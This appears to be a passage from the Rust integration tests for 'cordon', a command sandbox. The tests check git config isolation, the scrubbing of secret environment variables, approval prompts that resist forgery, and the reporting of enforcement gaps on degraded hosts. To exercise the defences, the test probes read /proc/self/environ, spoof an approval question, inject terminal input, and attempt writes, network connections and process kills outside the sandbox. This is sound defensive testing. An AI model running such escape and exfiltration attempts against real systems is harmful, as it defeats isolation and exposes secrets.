    // The copy is discarded with the run: the next run sees the seed again.
    let again = c.sh(&o, "git config --global a.b || echo unset")?;
    assert_eq!(again.out().trim(), "unset", "{again:?}");
    // Without any real config the private file is created on the first write.
    let bare = c.root.join(format!("bare-home-{tag}"));
    c.mkdir(&bare);
    let mut b = c.opts(READ_ONLY);
    b.env.push(("HOME".into(), s(&bare).into()));
    let out = c.sh(&b, "git config --global user.name; git config --global a.b c && git config --global a.b")?;
    assert_eq!(out.exit_code(), Some(0), "read-only mode, no real config: {out:?}");
    assert_eq!(out.out().trim(), "c", "{out:?}");
    assert_absent(&bare.join(".gitconfig"), "a global config appeared in the real home");
    // The caller's own location in a writable root is kept (and written on the host).
    let mine = c.ws.join(format!("gitconfig-{tag}"));
    let mut k = c.opts(WORKSPACE_WRITE);
    k.extra_args = vec!["--env".into(), format!("GIT_CONFIG_GLOBAL={}", mine.display())];
    let out = c.sh(&k, "git config --global q.r s")?;
    assert_eq!(out.exit_code(), Some(0), "{out:?}");
    assert!(fs::read_to_string(&mine).is_ok_and(|t| t.contains("r = s")), "the caller's config was not used: {out:?}");
    // The request names the files, but cordon never reads them: not its own /proc (its
    // environment holds what the scrub keeps from the command), not a file it holds
    // open (/proc/self/fd/N), not another user's private file the command cannot open
    // (as root: capability-less), in the host's /tmp (seen through the run's private
    // layer) or elsewhere.
    let secret = format!("leak-{tag}");
    for from in ["/proc/self/environ", "/proc/self/fd/0", "/proc/self/cwd/../../../../../../../proc/self/environ"] {
        let mut l = c.opts(WORKSPACE_WRITE);
        l.env.push(("CORDON_LEAK_CHECK_TOKEN".into(), secret.clone()));
        l.extra_args = vec!["--env".into(), format!("GIT_CONFIG_GLOBAL={from}")];
        let out = c.sh(&l, "cat \"$GIT_CONFIG_GLOBAL\" 2>/dev/null; echo \"global=$GIT_CONFIG_GLOBAL\"")?;
        assert!(!out.stdout.contains(&secret), "{from}: cordon's environment reached the command: {out:?}");
        assert!(!out.out().contains(&format!("global={from}")), "{from}: the caller's path was kept: {out:?}");
    }
    let in_tmp = PathBuf::from(format!("/tmp/cordon-seed-probe-{tag}"));
    let private = c.outside.join(format!("private-{tag}"));
    let other = if c.id.is_root() { 65534 } else { 0 };
    for path in [&in_tmp, &private] {
        fs::write(path, format!("[probe]\n\tvalue = {secret}\n")).unwrap();
        fs::set_permissions(path, <fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(0o600)).unwrap();
        chown(path, other, other);
    }
    for from in [&in_tmp, &private] {
        let mut l = c.opts(WORKSPACE_WRITE);
        l.extra_args = vec!["--env".into(), format!("GIT_CONFIG_GLOBAL={}", from.display())];
        let out = c.sh(&l, "cat \"$GIT_CONFIG_GLOBAL\"; git config --global --includes probe.value; true")?;
        let _ = fs::remove_file(from);
        assert!(!out.stdout.contains(&secret), "{}: the seed read what the command cannot: {out:?}", from.display());
    }
    // With the host's /tmp as a writable root the temp dir is shared: no private
    // config is written there (it would outlive the run, for every local user to
    // plant or read).
    // (Checked by effect for root, whose run wrote through a file another user could
    // plant; the plan-level rule is unit-tested for every caller in runner::landlock.)
    if c.id.is_root() {
        let shared = Path::new("/tmp/.gitconfig");
        // Whatever is there before (usually nothing) must be there, unchanged, after.
        let state = || fs::symlink_metadata(shared).ok().map(|m| (m.ino(), m.len(), m.mtime(), m.mtime_nsec()));
        let before = state();
        let mut w = c.opts(WORKSPACE_WRITE);
        w.env.push(("HOME".into(), s(&home).into()));
        w.extra_args = vec!["--best-effort".into(), "--writable".into(), "/tmp".into()];
        let out = c.sh(&w, "echo \"global=$GIT_CONFIG_GLOBAL\"")?;
        assert_eq!(out.exit_code(), Some(0), "{out:?}");
        assert!(!out.out().contains("global=/tmp/"), "the private git config is in the shared /tmp: {out:?}");
        assert_eq!(state(), before, "the host's /tmp/.gitconfig was created or changed by the run");
    }
    // No mount namespace (the landlock runner for an unprivileged caller whose user
    // namespaces are blocked): the executor writes the seed into the host-side private
    // TMPDIR; the home cache stays read-only there (nothing to mount with).
    if c.runner == "landlock" && !c.id.is_root() {
        let mut n = c.opts(WORKSPACE_WRITE);
        n.env.push(("HOME".into(), s(&home).into()));
        n.env.push(("CORDON_DISABLE_USERNS".into(), "1".into()));
        n.extra_args.push("--best-effort".into());
        let out = c.sh(
            &n,
            "git config --global --includes user.name; git config --global a.b c && git config --global a.b; \
                            mkdir ~/.cache/nons 2>/dev/null && echo CACHE-WRITTEN; true",
        )?;
        assert_eq!(out.exit_code(), Some(0), "{out:?}");
        assert_eq!(out.out().lines().take(2).collect::<Vec<_>>(), ["Seeded Name", "c"], "{out:?}");
        assert!(!out.out().contains("CACHE-WRITTEN"), "no mount layer, yet ~/.cache was writable: {out:?}");
        assert_absent(&home.join(".cache/nons"), "a write to ~/.cache reached the host without a mount layer");
        for r in &real {
            r.assert_unchanged("the real global git config (no mount namespace)");
        }
    }
});

case!(git_works_when_the_home_is_unreadable, |c| {
    // HOME kept across `sudo -u`/`setpriv` (or a container's foreign home): the run's
    // user cannot read its global git config. git skips its own global files on EACCES
    // but dies on an `[include]` of them, so the private config's seed leaves out what
    // the command cannot read: the confined git answers as the same user's unconfined
    // git does (compared with a host run as the identity). Two homes: one the identity
    // cannot search at all, one whose XDG directory it cannot search while
    // ~/.gitconfig is readable (that one is still included).
    if find_in_path("git").is_none() {
        return Err(Skip("git is not installed".into()));
    }
    let tag = c.unique();
    // Owned by someone else than the identity, so that neither the identity nor (as
    // root, once capabilities are gone) the sandboxed command may search it.
    let foreign = if c.id.is_root() { (65534, 65534) } else { (0, 0) };
    let locked = c.root.join(format!("locked-home-{tag}"));
    fs::create_dir(&locked).unwrap();
    fs::create_dir_all(locked.join(".config/git")).unwrap();
    fs::write(locked.join(".config/git/config"), "[cordon]\n\twho = xdg\n").unwrap();
    fs::write(locked.join(".gitconfig"), "[user]\n\tname = Locked Name\n").unwrap();
    let half = c.root.join(format!("half-home-{tag}"));
    c.mkdir(&half);
    c.file(&half.join(".gitconfig"), "[user]\n\tname = Half Name\n");
    let xdg = half.join(".config");
    fs::create_dir_all(xdg.join("git")).unwrap();
    fs::write(xdg.join("git/config"), "[cordon]\n\twho = xdg\n").unwrap();
    for dir in [locked.join(".config/git"), locked.join(".config"), locked.clone(), xdg.join("git"), xdg.clone()] {
        chown(&dir, foreign.0, foreign.1);
        set_mode(&dir, 0o700);
    }
    c.git_init();
    let script = "git status --short >/dev/null && echo STATUS-OK; git config user.name || echo unset; \
                  git config cordon.who || echo unset";
    for (home, expect_name) in [(&locked, None), (&half, Some("Half Name"))] {
        let host = c.host_cmd("/bin/sh").args(["-c", script]).env("HOME", home).output().unwrap();
        let host_out = String::from_utf8_lossy(&host.stdout).into_owned();
        let mut o = c.opts(WORKSPACE_WRITE);
        o.env.push(("HOME".into(), s(home).into()));
        let out = c.sh(&o, script)?;
        assert_eq!(out.exit_code(), Some(0), "{}: {out:?}", home.display());
        assert!(!out.err().contains("fatal"), "{}: git died in the run: {out:?}", home.display());
        let text = out.out();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.first(), Some(&"STATUS-OK"), "{}: {out:?}", home.display());
        assert_eq!(lines.get(1).copied(), Some(expect_name.unwrap_or("unset")), "{}: {out:?}", home.display());
        assert_eq!(
            lines.get(2).copied(),
            Some("unset"),
            "{}: the unreadable XDG file was read: {out:?}",
            home.display()
        );
        // The same user's unconfined git reads the same (root reads through its
        // permission overrides, which the sandboxed command does not have).
        if !c.id.is_root() {
            assert_eq!(text, host_out, "{}: confined and unconfined git differ", home.display());
        }
    }
});

case!(fs_cache_dir_kept_only_where_the_caller_allows, |c| {
    // --cache-dir DIR keeps the private caches across runs in a directory the caller
    // owns: written there (and nowhere else outside the workspace), refused inside the
    // workspace, refused when another user owns it, refused in read-only mode.
    let tag = c.unique();
    let cache = c.outside.join(format!("cache-{tag}"));
    c.mkdir(&cache);
    c.chown_to_me(&cache);
    let sent = c.sentinel(&c.outside.join(format!("beside-cache-{tag}")));
    let mut o = c.opts(WORKSPACE_WRITE);
    o.extra_args = vec!["--cache-dir".into(), s(&cache).into()];
    let out = c.sh(
        &o,
        &format!("mkdir -p \"$XDG_STATE_HOME\" && echo x > \"$XDG_STATE_HOME/{tag}\" && echo \"$XDG_STATE_HOME\""),
    )?;
    assert_eq!(out.exit_code(), Some(0), "{out:?}");
    assert!(out.out().trim().starts_with(s(&cache)), "XDG_STATE_HOME not in the cache dir: {out:?}");
    assert!(
        cache.join("caches/.local/state").join(&tag).exists(),
        "positive control: the cache file persists on the host"
    );
    c.probe_with(&o, "write", &[s(&sent.path), "pwned\n"])?.assert_refused("write beside the cache dir");
    sent.assert_unchanged("a file beside the cache directory");
    // The home's private layers (~/.cache here, where GOCACHE's default lies) keep what
    // a run adds in DIR/layers: the next run sees it, the host's ~/.cache does not, and
    // no run writes DIR/layers itself.
    let home_cache = c.id.home.join(".cache");
    let before = home_cache.exists().then(|| tree(&home_cache));
    let out = c.sh(
        &o,
        &format!("test -z \"$GOCACHE\" && mkdir -p ~/.cache/go-build && echo kept > ~/.cache/go-build/{tag}"),
    )?;
    assert_eq!(out.exit_code(), Some(0), "{out:?}");
    let out = c.sh(&o, &format!("cat ~/.cache/go-build/{tag}"))?;
    assert_eq!(out.out(), "kept\n", "the next run did not see the kept layer: {out:?}");
    if let Some(before) = before {
        assert_tree_unchanged(&before, &home_cache, "the host's ~/.cache");
    }
    assert_absent(&home_cache.join("go-build").join(&tag), "a kept layer wrote the host's ~/.cache");
    let layers = cache.join("layers");
    let kept: Vec<PathBuf> = fs::read_dir(&layers).unwrap().flatten().map(|e| e.path().join("upper")).collect();
    assert!(kept.iter().any(|u| u.join("go-build").join(&tag).is_file()), "nothing kept in {kept:?}");
    let planted = layers.join(format!("planted-{tag}"));
    c.probe_with(&o, "create", &[s(&planted)])?.assert_refused("write DIR/layers directly");
    assert_absent(&planted, "a run wrote DIR/layers directly");
    // Refusals: nothing runs.
    let inside = c.ws.join(format!("cache-{tag}"));
    c.mkdir(&inside);
    c.chown_to_me(&inside);
    let marker = c.outside.join(format!("ran-{tag}"));
    let foreign = c.outside.join(format!("foreign-cache-{tag}"));
    c.mkdir(&foreign);
    chown(&foreign, 0, 0);
    let mut cases = vec![(WORKSPACE_WRITE, inside.clone()), (READ_ONLY, cache.clone())];
    if !c.id.is_root() {
        cases.push((WORKSPACE_WRITE, foreign.clone()));
    }
    for (mode, dir) in cases {
        let mut r = c.opts(mode);
        r.extra_args = vec!["--cache-dir".into(), s(&dir).into()];
        r.expect_error = true;
        let out = c.cordon(&r, &["/bin/sh", "-c", &format!("touch {}", s(&marker))])?;
        assert_eq!(out.status.code(), Some(125), "{mode} --cache-dir {}: {out:?}", dir.display());
        assert_eq!(out.j()["error"]["code"], "INVALID_POLICY", "{out:?}");
        assert_absent(&marker, "a command ran with a refused cache directory");
    }
});

case!(esc_narrow_git_grant_opens_only_git_for_one_retry, |c| {
    // `git commit` is denied in workspace-write (.git protected). An approver that says
    // yes is asked for exactly "write .git": the retry commits (judged on the host),
    // while the network stays off (a loopback listener sees nothing) and every other
    // path stays read-only (a sentinel outside is unchanged). Without an approver the
    // commit does not happen (the positive control for the denial).
    c.git_init();
    let count = || c.host_sh("git rev-list --count HEAD").trim().to_string();
    assert_eq!(count(), "1");
    let trap = TcpTrap::v4();
    let sent = c.sentinel(&c.outside.join(format!("narrow-{}", c.unique())));
    let approver = c.outside.join(format!("approve-{}.sh", c.unique()));
    c.file(&approver, "#!/bin/sh\ncat > /dev/null\nexit 0\n");
    set_mode(&approver, 0o755);
    let probe = s(&c.suite.probe);
    let script = format!(
        "git -c user.name=t -c user.email=t@x commit -q --allow-empty -m granted && \
         {{ {probe} tcp 127.0.0.1 {port}; {probe} write {sent} pwned; exit 0; }}",
        port = trap.port_s(),
        sent = s(&sent.path)
    );
    let plain = c.sh(&c.opts(WORKSPACE_WRITE), &script)?;
    assert_ne!(plain.exit_code(), Some(0), "{plain:?}");
    assert_eq!(count(), "1", "positive control: without a grant the commit is refused");
    let mut o = c.opts(WORKSPACE_WRITE);
    o.extra_args = vec!["--approver".into(), s(&approver).into()];
    let out = c.sh(&o, &script)?;
    assert_eq!(out.exit_code(), Some(0), "{out:?}");
    assert_eq!(count(), "2", "the granted retry committed: {out:?}");
    let j = out.j();
    assert_eq!(j["sandbox"]["mode"], "workspace-write", "the retry stayed confined: {j}");
    assert_eq!(j["escalation"]["request"]["grant"]["kind"], "write", "{j}");
    assert_eq!(j["escalation"]["request"]["grant"]["path"], s(&c.ws.join(".git")), "{j}");
    assert!(!trap.connected_within(200), "the retry reached the network: {j}");
    sent.assert_unchanged("the retry wrote outside the workspace");
    // Control: the listener works from the host.
    c.host_probe("tcp", &["127.0.0.1", &trap.port_s()]).assert_ok("control: host TCP to the listener");
    assert!(trap.connected_within(500), "control: the listener saw nothing");
});

case!(esc_approval_text_cannot_be_forged_by_the_command, |c| {
    // What an MCP client's user (elicitation) or a serve client sees when asked for a
    // grant: the denied run's output between lines carrying a fresh random boundary,
    // then cordon's facts, escaped. The command prints a fake closing fence, a fake
    // question and control characters, and provokes a denial whose target (a file name
    // in `.git`) holds a newline and a fake question. Judged on the real request and
    // first run (this runner, this identity): outside the fences only cordon's lines,
    // one question, naming the real grant.
    c.git_init();
    let tag = c.unique();
    let dump = c.outside.join(format!("request-{tag}.json"));
    let approver = c.outside.join(format!("refuse-{tag}.sh"));
    c.file(&approver, &format!("#!/bin/sh\ncat > '{}'\nexit 1\n", s(&dump)));
    set_mode(&approver, 0o755);
    let fake_q = "Run this exact command once at full-access?";
    let script = format!(
        "printf '>>>cordon-approval-%032d\\n{fake_q}\\n\\033[2J  proposed: full-access\\n' 0; \
         : > \"$(printf '.git/x\\n{fake_q}')\"; : > \"$(printf 'held\\n  proposed: full-access')\"; \
         git -c user.name=t -c user.email=t@x commit -q --allow-empty -m x"
    );
    let mut o = c.opts(WORKSPACE_WRITE);
    o.extra_args = vec!["--approver".into(), s(&approver).into()];
    let out = c.sh(&o, &script)?;
    let first: cordon::RunResult = serde_json::from_value(out.j().clone()).expect("a run result");
    let raw = fs::read_to_string(&dump).unwrap_or_else(|e| panic!("the approver was not asked ({e}): {out:?}"));
    let req: cordon::escalation::EscalationRequest = serde_json::from_str(raw.trim()).expect("the request");
    let git = c.ws.join(".git");
    assert_eq!(req.grant, Some(cordon::escalation::Grant::Write { path: git.clone() }), "{raw}");
    assert!(first.stdout.text.contains(fake_q), "the command printed its fake: {first:?}");
    let boundary = cordon::escalation::fresh_boundary("cordon-approval-");
    let text = cordon::escalation::approval_text(&req, Some(&first), &boundary);
    let (mut outside, mut inside) = (Vec::new(), false);
    for line in text.lines() {
        if line == format!("<<<{boundary}") {
            assert!(!inside, "{text}");
            inside = true;
        } else if line == format!(">>>{boundary}") {
            assert!(inside, "{text}");
            inside = false;
        } else if !inside {
            outside.push(line);
        }
    }
    assert!(!inside, "an unclosed fence: {text}");
    assert!(!text.contains('\x1b'), "a control character reached the text: {text:?}");
    let cordons = [
        "cordon asks for your approval",
        "The denied run's ",
        "cordon: the sandbox",
        "  denied:  ",
        "            ",
        "  held:     ",
        "  changed:  ",
        "  command:  ",
        "  cwd:      ",
        "  proposed: ",
        "  call:     ",
        "Run this exact command once more",
    ];
    for line in &outside {
        assert!(
            cordons.iter().any(|p| line.starts_with(p)),
            "a line outside the fences is not cordon's: {line:?}\n{text}"
        );
    }
    let questions: Vec<&&str> = outside.iter().filter(|l| l.starts_with("Run this exact command")).collect();
    assert_eq!(questions.len(), 1, "{text}");
    // The narrow grant reads "allowed to write git's own files in WS/.git (...)".
    assert!(questions[0].contains("allowed to write"), "{text}");
    assert!(questions[0].contains(&format!("{} (", git.display())), "{text}");
    assert!(outside.iter().any(|l| l.contains(&format!("\\n{fake_q}"))), "the target is shown escaped: {text}");
    assert!(outside.iter().all(|l| !l.starts_with("  proposed: full-access")), "{text}");
    // The workspace file the command made, named with a newline and a fake line, is
    // listed (held back, or changed where no layer can be had), escaped.
    assert!(outside.iter().any(|l| l.contains("held\\n  proposed: full-access")), "{text}");
});

case!(esc_session_standing_git_grant_opens_only_git, |c| {
    // `cordon session grant FILE write WS/.git`: later `run --session FILE` calls may
    // commit (judged on the host), with the network still off and every other path
    // still read-only. A grant for another path opens nothing (the control).
    c.git_init();
    let count = || c.host_sh("git rev-list --count HEAD").trim().to_string();
    let tag = c.unique();
    let session = c.outside.join(format!("session-{tag}.jsonl"));
    let cli = |args: &[&str]| {
        let out = c.host_cmd(&c.suite.cordon).args(args).output().unwrap();
        assert!(out.status.success(), "cordon {args:?}: {out:?}");
    };
    let trap = TcpTrap::v4();
    let sent = c.sentinel(&c.outside.join(format!("standing-{tag}")));
    let probe = s(&c.suite.probe);
    let script = format!(
        "git -c user.name=t -c user.email=t@x commit -q --allow-empty -m standing && \
         {{ {probe} tcp 127.0.0.1 {port}; {probe} write {sent} pwned; exit 0; }}",
        port = trap.port_s(),
        sent = s(&sent.path)
    );
    let mut o = c.opts(WORKSPACE_WRITE);
    o.extra_args = vec!["--session".into(), s(&session).into()];
    // Control: a grant for some other path leaves .git protected.
    let other = c.ws.join("other");
    c.mkdir(&other);
    cli(&["session", "grant", s(&session), "write", s(&other)]);
    let out = c.sh(&o, &script)?;
    assert_ne!(out.exit_code(), Some(0), "{out:?}");
    assert_eq!(count(), "1", "a grant for another path opened .git");
    cli(&["session", "grant", s(&session), "write", s(&c.ws.join(".git"))]);
    let out = c.sh(&o, &script)?;
    assert_eq!(out.exit_code(), Some(0), "{out:?}");
    assert_eq!(count(), "2", "the standing grant let the commit through: {out:?}");
    assert_eq!(out.j()["sandbox"]["mode"], "workspace-write");
    assert!(!trap.connected_within(200), "the network was on");
    sent.assert_unchanged("a write outside the workspace under a standing .git grant");
    c.host_probe("tcp", &["127.0.0.1", &trap.port_s()]).assert_ok("control: host TCP to the listener");
    assert!(trap.connected_within(500), "control: the listener saw nothing");
});

case!(cred_secret_environment_scrubbed, |c| {
    let tag = c.unique();
    let secrets: Vec<(String, String)> = [
        "GITHUB_TOKEN",
        "MY_API_KEY",
        "AWS_SECRET_ACCESS_KEY",
        "DB_PASSWORD",
        "NPM_TOKEN",
        "OPENAI_API_KEY",
        "client_secret",
    ]
    .iter()
    .map(|k| (k.to_string(), format!("s3cr3t-{k}-{tag}")))
    .collect();
    for mode in CONFINED {
        let mut o = c.opts(mode);
        o.env = secrets.clone();
        // (CORDON_* names are reserved by cordon and stripped; use an ordinary name.)
        o.env.push(("ORDINARY_SETTING".into(), format!("visible-{tag}")));
        let r = c.probe_with(&o, "environ", &[])?;
        r.assert_ok("environ");
        for (k, v) in &secrets {
            assert!(!r.detail.contains(v.as_str()), "{k} leaked into the sandbox ({mode})");
        }
        assert!(r.detail.contains(&format!("visible-{tag}")), "ordinary variables must pass through: {r:?}");
        // Nor readable from any process's environ (e.g. cordon's own, via /proc).
        let g = c.probe_with(&o, "proc-grep", &[&secrets[0].1])?;
        assert!(g.detail.contains("matches=[]"), "a secret is readable in /proc/*/environ inside: {g:?}");
    }
});

// Credentials whose names pass the name filter but whose values have a secret's shape
// (a URL with a password, a well-known token prefix) stay out too; the same values
// passed explicitly with --env are kept on purpose.
case!(cred_secret_shaped_values_scrubbed, |c| {
    let tag = c.unique().replace(['-', '_', '.'], "x");
    let secrets: Vec<(String, String)> = vec![
        ("DATABASE_URL".into(), format!("postgres://u:pw{tag}@db/x")),
        ("CI_HINT".into(), format!("ghp_{tag}A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6")),
        ("NPM_AUTH".into(), format!("plain{tag}")),
        // A password as pasted (base64: `/`, `+`, `=`), and one with `#` and `@`.
        ("PRIMARY_DB".into(), format!("postgresql://app:s3cr/et+{tag}==@db/prod")),
        ("REPLICA".into(), format!("mysql://app:a#b@c{tag}@db:3306/x")),
        ("MYSQL_PWD".into(), format!("plain{tag}")),
        ("GPG_PASSPHRASE".into(), format!("plain{tag}")),
    ];
    let kept = [
        ("HOMEPAGE", format!("https://example.com/{tag}")),
        ("ASSET_URL", format!("https://unpkg.com/react@18/{tag}.js")),
        ("DEV_SERVER", format!("http://localhost:3000/@vite/{tag}")),
        ("SEARCH_PATH", format!("/srv/a:/opt/b@1:/x{tag}")),
    ];
    let mut o = c.opts(WORKSPACE_WRITE);
    o.env = secrets.clone();
    o.env.extend(kept.iter().map(|(k, v)| (k.to_string(), v.clone())));
    let r = c.probe_with(&o, "environ", &[])?;
    r.assert_ok("environ");
    for (k, v) in &secrets {
        assert!(!r.detail.contains(v.as_str()), "{k}={v} leaked into the sandbox: {r:?}");
    }
    for (k, v) in &kept {
        assert!(r.detail.contains(v.as_str()), "{k}={v}, an ordinary value, must pass: {r:?}");
    }
    // Kept on purpose: `--env NAME` (cordon's own value) and `--env NAME=VALUE`.
    o.extra_args = vec!["--env".into(), "DATABASE_URL".into(), "--env".into(), format!("CI_HINT={}", secrets[1].1)];
    let r = c.probe_with(&o, "environ", &[])?;
    assert!(r.detail.contains(&secrets[0].1) && r.detail.contains(&secrets[1].1), "--env must keep them: {r:?}");
});

// =====================================================================================
// 10b. Degraded hosts: an undeclared gap is the worst bug. On a host that cannot enforce
//      everything (older Landlock ABI, no user namespaces), cordon must fail closed
//      unless --best-effort, and with --best-effort every protection that does not hold
//      must be named in `enforcement.gaps` (by its restriction name).
// =====================================================================================

/// Whether this pass exercises the landlock runner. The degraded-host cases emulate
/// older Landlock ABIs and blocked user namespaces: they judge the landlock runner's
/// declared gaps (the bwrap runner has its own probe and is covered by its own pass
/// of every other case).
fn landlock_pass(c: &Ctx) -> bool {
    c.runner == "landlock"
}

/// The degraded hosts cordon can emulate: (label, environment for the cordon process).
fn degraded_hosts() -> Vec<(String, Vec<(String, String)>)> {
    let mut v: Vec<(String, Vec<(String, String)>)> = (1..=6)
        .map(|n| (format!("landlock-abi-{n}"), vec![("CORDON_LANDLOCK_ABI_MAX".to_string(), n.to_string())]))
        .collect();
    v.push(("no-userns".into(), vec![("CORDON_DISABLE_USERNS".into(), "1".into())]));
    v.push(("no-netns".into(), vec![("CORDON_DISABLE_NETNS".into(), "1".into())]));
    v.push((
        "no-userns+abi-3".into(),
        vec![("CORDON_DISABLE_USERNS".into(), "1".into()), ("CORDON_LANDLOCK_ABI_MAX".into(), "3".into())],
    ));
    // A container runtime's masked /proc: no fresh procfs, so no pid namespace of the
    // run's own (the container suite, tests/containers, runs the real thing).
    v.push(("no-fresh-proc".into(), vec![("CORDON_DISABLE_FRESH_PROC".into(), "1".into())]));
    v.push((
        "no-fresh-proc+abi-5".into(),
        vec![("CORDON_DISABLE_FRESH_PROC".into(), "1".into()), ("CORDON_LANDLOCK_ABI_MAX".into(), "5".into())],
    ));
    v
}

fn gap_names(out: &CordonOut) -> Vec<String> {
    out.j()["sandbox"]["enforcement"]["gaps"]
        .as_array()
        .map(|a| a.iter().filter_map(|g| g["restriction"].as_str().map(String::from)).collect())
        .unwrap_or_default()
}

/// Runs one protection check per restriction under `o`. Returns None if cordon did not
/// run the command at all, else the declared gaps and the (restriction, evidence) of
/// every protection that did not hold.
#[allow(clippy::type_complexity)]
fn degraded_battery(
    c: &Ctx,
    o: &RunOpts,
    tag: &str,
) -> Result<Option<(Vec<String>, Vec<(&'static str, String)>)>, Skip> {
    let ws = o.cwd.clone().unwrap();
    let out_dir = c.outside.join(tag);
    c.mkdir(&out_dir);
    let mut bad: Vec<(&'static str, String)> = vec![];
    let mut gaps: Option<Vec<String>> = None;
    macro_rules! run {
        ($opts:expr, $op:expr, $args:expr) => {{
            match c.probe_or_refusal($opts, $op, $args)? {
                Ok(r) => {
                    let g = gap_names(r.run.as_ref().unwrap());
                    if let Some(prev) = &gaps {
                        assert_eq!(prev, &g, "gaps differ between runs of the same policy ({tag})");
                    }
                    gaps = Some(g);
                    r
                }
                Err(out) => {
                    if gaps.is_none() {
                        return Ok(None);
                    }
                    panic!("cordon ran one command of this policy but refused another ({tag}): {out:?}");
                }
            }
        }};
    }
    // fs-write
    let sent = c.sentinel(&out_dir.join("fs-write"));
    let r = run!(o, "overwrite", &[s(&sent.path), "pwned"]);
    if sent.check().is_err() {
        bad.push(("fs-write", format!("{r:?}")));
    }
    // fs-write through a special file: a FIFO outside with a host reader.
    let mut fifo = HostFifo::new(c, &out_dir.join("fs-write-fifo"));
    let r = run!(o, "append", &[s(&fifo.path), "pwned"]);
    if !fifo.received().is_empty() {
        bad.push(("fs-write", format!("a host FIFO received bytes: {r:?}")));
    }
    // fs-truncate
    let sent = c.sentinel(&out_dir.join("fs-truncate"));
    let r = run!(o, "truncate", &[s(&sent.path), "0"]);
    if sent.check().is_err() {
        bad.push(("fs-truncate", format!("{r:?}")));
    }
    // fs-metadata
    let sent = c.sentinel(&out_dir.join("fs-metadata"));
    let r = run!(o, "chmod", &[s(&sent.path), "0600"]);
    if sent.check().is_err() {
        bad.push(("fs-metadata", format!("{r:?}")));
    }
    // protected-paths
    let cfg = Sentinel::record(&ws.join(".git/config"));
    let r = run!(o, "append", &[s(&cfg.path), "pwned"]);
    if cfg.check().is_err() {
        bad.push(("protected-paths", format!("{r:?}")));
    }
    // private-tmp (nothing the run does in /tmp reaches the host's; reading it is
    // allowed, through a private layer)
    let host_tmp = PathBuf::from(format!("/tmp/cordon-tests-{}-degraded-{}", std::process::id(), c.unique()));
    let sent = c.sentinel(&host_tmp);
    let r = run!(o, "overwrite", &[s(&host_tmp), "pwned"]);
    let changed = sent.check().is_err();
    let _ = fs::remove_file(&host_tmp);
    if changed {
        bad.push(("private-tmp", format!("changed a host /tmp file: {r:?}")));
    }
    let created = PathBuf::from(format!("/tmp/cordon-tests-{}-created-{}", std::process::id(), c.unique()));
    let r = run!(o, "create", &[s(&created)]);
    if created.exists() {
        let _ = fs::remove_file(&created);
        bad.push(("private-tmp", format!("created in host /tmp: {r:?}")));
    }
    // network
    let t = TcpTrap::v4();
    let r = run!(o, "tcp", &["127.0.0.1", &t.port_s()]);
    if t.connected_within(200) {
        bad.push(("network", format!("{r:?}")));
    }
    let u = UdpTrap::v4();
    let r = run!(o, "udp", &["127.0.0.1", &u.port_s()]);
    if u.received() {
        bad.push(("network", format!("udp: {r:?}")));
    }
    // unix-sockets
    let name = format!("cordon-test-{}", c.unique());
    let trap = UnixTrap::stream_abstract(&name);
    let r = run!(o, "unix-abstract", &[&name]);
    if trap.touched_within(200) {
        bad.push(("unix-sockets", format!("{r:?}")));
    }
    let dir = SockDir::new();
    let path = dir.0.join("d.sock");
    let trap = UnixTrap::stream_path(c, &path);
    let r = run!(o, "unix-connect", &[s(&path)]);
    if trap.touched_within(200) {
        bad.push(("unix-sockets", format!("pathname: {r:?}")));
    }
    // signals / process-inspection
    let mut v = c.victim();
    let r = run!(o, "kill", &[&v.pid_s(), "9"]);
    if v.check().is_err() {
        bad.push(("signals", format!("{r:?}")));
    }
    let v = c.victim();
    let r = run!(o, "read", &[&format!("/proc/{}/environ", v.pid)]);
    if r.detail.contains(&v.secret) {
        bad.push(("process-inspection", format!("{r:?}")));
    }
    let r = run!(o, "vm-read", &[&v.pid_s(), &v.some_address()]);
    if r.ok {
        bad.push(("process-inspection", format!("process_vm_readv: {r:?}")));
    }
    // Priority changes: without a pid namespace the victim (and cordon) can be named.
    let v = c.victim();
    let nice = v.nice();
    let r = run!(o, "setpriority", &[&v.pid_s(), "19"]);
    if v.nice() != nice {
        bad.push(("process-inspection", format!("reniced another process: {r:?}")));
    }
    // process-lifetime
    let mark = ws.join(format!("survivor-{}", c.unique()));
    let r = run!(o, "daemonize", &["3000", s(&mark)]);
    // Killed processes may take a moment to leave /proc after the run returns (namespace
    // teardown); a survivor is one still there well before its 3 s timer fires.
    let mut left = host_pids_with(s(&mark));
    for _ in 0..40 {
        if left.is_empty() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
        left = host_pids_with(s(&mark));
    }
    if !left.is_empty() {
        for pid in &left {
            let _ = std::process::Command::new("kill").args(["-9", pid]).status();
        }
        bad.push(("process-lifetime", format!("survivors {left:?}: {r:?}")));
    }
    // ipc
    let key = ipc_key(c);
    let r = run!(o, "shmget", &[&key.to_string()]);
    // SAFETY: lookup without IPC_CREAT, removal of what we find.
    let id = unsafe { libc::shmget(key, 0, 0) };
    if id >= 0 {
        // SAFETY: IPC_RMID of the segment found above, by id.
        unsafe { libc::shmctl(id, libc::IPC_RMID, std::ptr::null_mut()) };
        bad.push(("ipc", format!("{r:?}")));
    }
    // device-ioctl (root can open /dev/userfaultfd read-only)
    if Path::new("/dev/userfaultfd").exists() {
        let r = run!(o, "userfaultfd-dev", &[]);
        if r.ok {
            bad.push(("device-ioctl", format!("userfaultfd through /dev/userfaultfd: {r:?}")));
        }
    }
    // terminal-injection, syscall-filter, privileges, fd-isolation
    let r = run!(o, "tiocsti-hi", &["/dev/null"]);
    if r.errname == "ENOTTY" {
        bad.push(("terminal-injection", format!("{r:?}")));
    }
    for op in ["io_uring", "bpf", "unshare", "i386-getpid"] {
        let args: &[&str] = if op == "unshare" { &["user"] } else { &[] };
        let r = run!(o, op, args);
        if r.ok {
            bad.push(("syscall-filter", format!("{r:?}")));
        }
    }
    let r = run!(o, "caps", &[]);
    let f = status_fields(&r.detail);
    if f.get("CapEff").map(String::as_str) != Some("0000000000000000")
        || f.get("NoNewPrivs").map(String::as_str) != Some("1")
    {
        bad.push(("privileges", format!("{r:?}")));
    }
    let sink = c.file(&out_dir.join("fd-sink"), "");
    let fdf = open_append(&sink);
    let mut of = o.clone();
    of.inherit_fds = vec![(raw(&fdf), 7)];
    let r = run!(&of, "fds", &[]);
    if !r.detail.is_empty() {
        bad.push(("fd-isolation", format!("{r:?}")));
    }
    Ok(Some((gaps.unwrap_or_default(), bad)))
}

